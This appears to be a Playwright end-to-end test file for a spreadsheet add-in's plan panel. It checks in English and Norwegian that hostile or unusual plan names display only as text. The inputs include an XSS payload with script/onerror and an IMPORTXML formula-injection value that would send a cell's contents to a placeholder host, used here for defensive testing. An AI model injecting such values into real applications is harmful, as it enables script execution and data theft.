import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { done, goTo, openPages, type PageBench, spoken } from '../workbench/page-fixture';
import { focusOn, frameIn, openPanel, press, says, tabTo } from './keyboard';
import { isSound, openList, showPlan, type } from './plans';

/** Names that somebody wrote to do harm, or that are only unlike others: they are texts, wherever they stand. */
let bench: PageBench;
beforeAll(async () => {
  bench = await openPages();
});
afterAll(() => bench.close());

const markup = '<img src=x onerror=alert(1)></title></svg><script>alert(2)</script>';
const names = [
  markup,
  '=IMPORTXML("https://x.invalid/"&A1; "//a")',
  `<b>${'long name '.repeat(499)}</b>`.slice(0, 5000),
  '\u202eהתוכנית של מאי \u2067مرحبا\u2069 👩‍👩‍👧‍👦🇳🇴',
] as const;

const words = {
  en: { tooLong: 'The name is too long for the sheet.', insertWhy: '(Name of the plan)', sheet: 'Plans' },
  nb: { tooLong: 'Navnet er for langt for arket.', insertWhy: '(Navn på planen)', sheet: 'Planer' },
} as const;

/** Reports whatever a page does that a name made it do. */
function watch(page: Page): string[] {
  const done: string[] = [];
  page.on('dialog', (dialog) => {
    done.push(`dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => undefined);
  });
  page.on('request', (request) => {
    const asked = request.url();
    if (!asked.startsWith(bench.url) && !/^(data|blob|about):/.test(asked)) done.push(`request: ${asked}`);
  });
  return done;
}

/** Elements that no view of ours makes. */
function strangers(frame: Frame): Promise<string[]> {
  return frame.evaluate(() =>
    [...document.querySelectorAll('#app :is(img, script, iframe, a, object, style, link)')].map((one) => one.outerHTML),
  );
}

/** Isolated by `bdi` or in an attribute: what a name turns round, it turns round in itself only. */
function exposed(frame: Frame): Promise<string[]> {
  return frame.evaluate(() => {
    const found: string[] = [];
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walk.nextNode(); node !== null; node = walk.nextNode()) {
      const holder = node.parentElement;
      if (!node.textContent?.includes('\u202e') || holder === null) continue;
      const isolated = holder.closest('bdi, .hidden, svg text, option');
      if (isolated === null) found.push(holder.outerHTML.slice(0, 200));
    }
    return found;
  });
}

async function nameAll(page: Page, frame: Frame): Promise<void> {
  for (const add of [1, 2]) {
    await press(page, frame, '#add-plan');
    await frame.waitForFunction((count) => document.querySelectorAll('[role=tab]').length === count, 2 + add);
  }
  for (const [i, name] of names.entries()) {
    await showPlan(page, frame, i + 1);
    await tabTo(page, frame, '#plan-name');
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText(name);
    await type(page, frame, 'en', { affiliate: { orders: '100', orderValue: '30', commission: '10%' } });
  }
}

describe.each(['en', 'nb'] as const)('names, by keyboard alone: %s', (language) => {
  const say = words[language];

  it('are texts in tabs, results, pictures, tables, lists, sheet and window, and nothing else', async () => {
    const page = await bench.fresh(language);
    const harm = watch(page);
    let frame = await openPanel(page);
    await nameAll(page, frame);
    const tabs = () => frame.locator('[role=tab]').allTextContents();
    expect(await tabs()).toEqual([...names]);
    const wholeNames = (selector: string) => frame.locator(selector).allTextContents();
    expect(await wholeNames('#compare-net .name')).toEqual([...names]);
    expect(await wholeNames('#compare-total .name')).toEqual([...names]);
    const begins = (texts: readonly string[]) => {
      expect(texts).toHaveLength(names.length);
      for (const [i, text] of texts.entries()) {
        const name = names[i]?.replace(/\p{Bidi_Control}/gu, '');
        expect(name?.startsWith(text.replace(/…$/, '').trim()), text).toBe(true);
      }
    };
    begins(await wholeNames('#stacks .name'));
    begins(await wholeNames('table:has(caption) th[scope=rowgroup] bdi'));
    for (const [i, name] of names.entries()) {
      await showPlan(page, frame, i + 1);
      expect(await frame.textContent('.plan-of .name')).toBe(name);
      expect(await frame.textContent('footer .name')).toBe(name);
      await press(page, frame, '#save-plan');
      await frame.waitForFunction(
        () => document.querySelector('#save-plan')?.getAttribute('aria-disabled') === 'false',
      );
      await frame.waitForFunction(() => (document.querySelector('.said')?.textContent ?? '') !== '');
      expect(await exposed(frame)).toEqual([]);
    }
    await openList(page, frame);
    expect(await wholeNames('.library .choices .name')).toEqual([...names]);
    await press(page, frame, '.choices > :nth-child(3) [id^=delete-]');
    await focusOn(frame, '#keep-plan');
    await isSound(frame);
    await page.keyboard.press('Escape');
    await page.keyboard.press('Escape');
    expect(await strangers(frame)).toEqual([]);

    await press(page, frame, '#move');
    frame = await frameIn(page, 'modeless');
    await frame.waitForSelector('[role=tab]');
    expect(await tabs()).toEqual([...names]);
    expect(await strangers(frame)).toEqual([]);
    await isSound(frame, 1000);

    await press(page, frame, '#insert-plans');
    await says(frame, 'footer .said', say.sheet);
    await press(page, frame, '#move');
    frame = await frameIn(page, 'sidebar');
    await frame.waitForSelector('[role=tab]');
    await page.waitForSelector('#modeless', { state: 'hidden' });
    // The names stand above the low cases, in C, F, I, L. What is read out is cut.
    for (const [i, name] of names.entries()) {
      const cell = `${['C', 'F', 'I', 'L'][i]}1`;
      await goTo(page, 2 + 3 * i, 0, cell);
      if (name.length < 100) await spoken(page, `${cell}: ${name}`);
    }
    await openList(page, frame);
    expect(await wholeNames('.library .choices .name')).toEqual([...names, say.sheet]);
    expect(harm).toEqual([]);
    await done(page);
  });

  it('are refused where the sheet has no room for them', async () => {
    const page = await bench.fresh(language);
    const frame = await openPanel(page);
    await tabTo(page, frame, '#plan-name');
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText('x'.repeat(5001));
    await says(frame, '#plan-name-error', say.tooLong);
    await says(frame, '#insert-why', say.insertWhy);
    await says(frame, '#save-why', say.insertWhy);
    await isSound(frame);
    await page.keyboard.press('Backspace');
    await frame.waitForFunction(() => document.querySelector('#insert-why') === null);
    await done(page);
  });
});
